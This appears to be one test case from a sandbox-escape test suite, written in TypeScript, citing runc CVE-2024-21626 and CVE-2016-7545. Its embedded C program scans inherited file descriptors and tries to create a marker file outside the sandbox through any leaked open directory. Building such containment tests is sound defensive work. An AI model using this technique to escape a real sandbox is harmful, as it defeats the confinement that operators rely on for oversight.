import { type Attack, arrived, c } from '../attack.js'

export const attack: Attack = {
  id: 'descriptors/inherited-directory',
  tries: 'to make a file below a directory that whoever started the sandbox had open',
  source: 'CVE-2024-21626 (runc); CVE-2016-7545',
  program: c`
int main(void) {
  for (int directory = 3; directory < 400; directory++) {
    const int file = openat(directory, var("NONCE"), O_CREAT | O_WRONLY, 0644);
    if (file >= 0) leave_nonce(file);
  }
}`,
  succeeded: arrived,
  control: 'plain',
}
